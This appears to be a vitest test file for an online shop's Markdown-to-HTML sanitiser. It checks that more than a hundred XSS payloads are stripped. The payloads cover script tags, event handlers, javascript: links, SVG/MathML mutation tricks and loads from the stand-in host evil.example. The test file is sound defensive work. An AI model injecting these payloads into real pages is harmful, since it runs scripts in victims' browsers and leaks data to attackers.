import fc from 'fast-check';
import { type HTMLElement, parse } from 'node-html-parser';
import { describe, expect, test } from 'vitest';
import { addressesIn, sanitiseWithReport, toHtml } from '#src/content/import/assemble/html.ts';

/** XSS payloads by kind, from cheat sheets of OWASP and PortSwigger and security advisories of sanitisers. */
const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  'a script': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script/x>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<script\n>alert(1)</script\n>',
    '<script>alert(1)',
    '<script type="text/markdown">alert(1)</script>',
    '</p><script>alert(1)</script><p>',
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    '<textarea><script>alert(1)</script></textarea>',
    '<xmp><script>alert(1)</script></xmp>',
    '<plaintext><script>alert(1)</script>',
    '<title><script>alert(1)</script></title>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<template><script>alert(1)</script></template>',
  ],
  'a handler': [
    '<img src="/storage/x.svg" onerror="alert(1)">',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="/storage/x.svg"\nonload=alert(1)>',
    '<p onmouseover="alert(1)">текст</p>',
    '<b ONCLICK=alert(1)>текст</b>',
    '<a href="/page/about" onfocus=alert(1) autofocus>текст</a>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<video onloadstart=alert(1)><source></video>',
    '<audio src onerror=alert(1)>',
    '<input onfocus=alert(1) autofocus>',
    '<select onfocus=alert(1) autofocus>',
    '<img alt="x" src="/storage/x.svg" title="\'onerror=alert(1)">',
    '<p title="x" onclick=\u0000"alert(1)">текст</p>',
  ],
  'a link that runs': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '<a href="https://user:pass@evil.example/">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href=javascript:alert(1) href=/page/about>x</a>',
    '<a ping="https://evil.example/" href="/page/about">x</a>',
    '<area href="javascript:alert(1)">',
  ],
  'a link of Markdown that runs': [
    '[x](javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](JAVASCRIPT:alert%281%29)',
    '[x](java&#x09;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](data:text/html,x)',
    '[x](vbscript:alert(1))',
    '[x](//evil.example)',
    '[x](/\\evil.example)',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![x](https://evil.example/x.png)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![x](/storage/../../secret.png)',
    '![x" onerror="alert(1)](/storage/x.svg)',
    '[x](/page/about "t\\" onclick=\\"alert(1)")',
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
    '    <script>alert(1)</script>',
  ],
  'a picture': [
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="//evil.example/x.png">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="/storage/x.svg" srcset="https://evil.example/x.png 2x">',
    '<img src="/storage/%2e%2e/secret">',
    '<img lowsrc="javascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<picture><source srcset="javascript:alert(1)"><img src="/storage/x.svg"></picture>',
    '<image src=x onerror=alert(1)>',
    '<video poster="javascript:alert(1)"></video>',
  ],
  'SVG and MathML': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,x#a"/></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  'a style': [
    '<style>body{background:url(javascript:alert(1))}</style>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(https://evil.example/x)">текст</p>',
    '<p style="position:fixed;inset:0">текст</p>',
    '<div style="width:expression(alert(1))">текст</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p class="x" id="y">текст</p>',
  ],
  'a frame or an object': [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,x"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<portal src="https://evil.example">',
  ],
  'a form': [
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form id="x"></form><button form="x" formaction="javascript:alert(1)">x</button>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="https://evil.example/x" formaction="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)">',
    '<textarea name="x"></textarea>',
  ],
  'the head of a page': [
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="">',
    '<html><head><base href="//evil.example"></head></html>',
    '<link rel="import" href="data:text/html,x">',
    '<custom-element onclick=alert(1)>x</custom-element>',
    '<slot name="x" onslotchange=alert(1)>x</slot>',
  ],
};

const TAGS = new Set(
  'h2 h3 h4 p br hr ul ol li dl dt dd strong em b i s sub sup small mark blockquote code table thead tbody tr th td caption a img figure figcaption address'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'href title rel src alt width height loading scope colspan rowspan start'.split(' '),
);

/** The URL that a browser opens for an address on a page of the shop; null when invalid. */
function destination(address: string): URL | null {
  // Strips control characters, tabs and line ends as browsers do: https://url.spec.whatwg.org/#concept-basic-url-parser.
  return URL.parse(address, 'https://shop.example/page/about');
}

function dangersIn(html: string): string[] {
  const elements = parse(html, { comment: true }).querySelectorAll('*') as HTMLElement[];
  const dangers = /<!|<\?/u.test(html) ? ['a comment or a declaration'] : [];
  for (const element of elements) {
    const tag = element.tagName.toLowerCase();
    if (!TAGS.has(tag)) dangers.push(`<${tag}>`);
    for (const [name, value] of Object.entries(element.attributes)) {
      if (!ATTRIBUTES.has(name)) dangers.push(`${tag} ${name}`);
      if (name === 'src' && !/^\/storage\/[\w/-]+\.\w+$/u.test(value)) dangers.push(`src ${value}`);
      if (name !== 'href') continue;
      const to = destination(value);
      const isOwn = to?.origin === 'https://shop.example' && /^[/#]/u.test(value) && !/^\/[/\\]/u.test(value);
      const isElsewhere =
        /^https?:$/u.test(to?.protocol ?? '') && /^https?:\/\//iu.test(value) && to?.username === '';
      if (!isOwn && !isElsewhere && !/^(?:mailto|tel):$/u.test(to?.protocol ?? ''))
        dangers.push(`href ${value}`);
    }
  }
  return dangers;
}

describe.each(Object.entries(PAYLOADS))('%s', (_, payloads) => {
  test.each(payloads)('%j', payload => {
    for (const markdown of [
      payload,
      `Текст ${payload} дальше`,
      `- ${payload}\n\n> ${payload}`,
      `| a |\n| --- |\n| ${payload} |`,
    ]) {
      expect(dangersIn(toHtml(markdown))).toEqual([]);
    }
  });

  test.each(payloads)('%j stays the same when sanitised again', payload => {
    const once = toHtml(payload);
    expect(dangersIn(toHtml(once))).toEqual([]);
  });
});

test('there are enough payloads', () => {
  expect(Object.values(PAYLOADS).flat().length).toBeGreaterThanOrEqual(120);
});

describe('what editors may write is kept', () => {
  test.each([
    ['# Заголовок', '<h2>Заголовок</h2>'],
    ['### А\n\n##### Б\n\n### В', '<h2>А</h2>\n<h3>Б</h3>\n<h2>В</h2>'],
    ['# А\n\n## Б\n\n### В\n\n#### Г', '<h2>А</h2>\n<h3>Б</h3>\n<h4>В</h4>\n<h4>Г</h4>'],
    ['Было ~~старое~~', '<p>Было <s>старое</s></p>'],
    ['[Доставка](/page/delivery#map)', '<p><a href="/page/delivery#map">Доставка</a></p>'],
    ['[Ниже](#ниже)', '<p><a href="#%D0%BD%D0%B8%D0%B6%D0%B5">Ниже</a></p>'],
    [
      '[Сайт](https://example.com/)',
      '<p><a href="https://example.com/" rel="noopener noreferrer">Сайт</a></p>',
    ],
    ['[Позвонить](tel:+74912000101)', '<p><a href="tel:+74912000101">Позвонить</a></p>'],
    [
      '[Написать](mailto:info@protektor.example)',
      '<p><a href="mailto:info@protektor.example">Написать</a></p>',
    ],
    ['![Шина](/storage/a/b.svg)', '<p><img alt="Шина" src="/storage/a/b.svg" loading="lazy" /></p>'],
    ['5 < 6 & 7 > 2', '<p>5 &lt; 6 &amp; 7 &gt; 2</p>'],
    ['  \n ', ''],
  ])('%j', (markdown, html) => expect(toHtml(markdown)).toBe(html));
});

describe('what is removed is reported', () => {
  test.each<[string, string[]]>([
    ['**Текст** с [ссылкой](/page/about) и таблицей\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |', []],
    ['<script>alert(1)</script>', ['<script>']],
    ['<p onclick="x" style="y">текст</p>', ['onclick', 'style']],
    ['[x](javascript:alert(1))', ['ссылка «javascript:alert(1)»']],
    ['![x](https://example.com/x.png)', ['картинка «https://example.com/x.png»']],
    ['<iframe></iframe><iframe></iframe>', ['<iframe>']],
  ])('%j', (markdown, removed) =>
    expect(sanitiseWithReport(markdown).removed.map(({ what }) => what)).toEqual(removed),
  );
});

test('links and pictures of a text are returned as written', () => {
  const html = toHtml('[a](/products?season=winter&kit=1) ![b](/storage/b.svg) [c](#c)');
  expect(addressesIn(html)).toEqual({ links: ['/products?season=winter&kit=1', '#c'], pictures: ['b.svg'] });
});

/** A second paragraph with emphasis. */
const TAIL = { markdown: '\n\n*x*', html: '<p><em>x</em></p>' };
const PIECES = [
  ...[
    'Шина',
    'M',
    '«',
    '»',
    ' ',
    '  ',
    '\n',
    '\n\n',
    '\n\n\n',
    '. ',
    ', ',
    ': ',
    '://',
    'www.',
    'WWW.ru',
    '/',
    '%',
    '№',
  ],
  ...[
    '1',
    '1. ',
    '1) ',
    '- ',
    '+ ',
    '—',
    '\n- ',
    '\n1. ',
    '!',
    '?',
    '(',
    ')',
    '#',
    '*',
    '_',
    '&',
    '<',
    '>',
    '"',
    '\u00A0',
    '~',
  ],
];

test('paragraphs give the same HTML whatever paragraph follows them', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 12 }), pieces => {
      const text = `Т${pieces.join('')}`.trim();
      fc.pre(!/[#*_&<>"~]/u.test(text));
      expect(`${toHtml(text)}\n${TAIL.html}`).toBe(toHtml(text + TAIL.markdown));
    }),
    { numRuns: 1000 },
  );
});
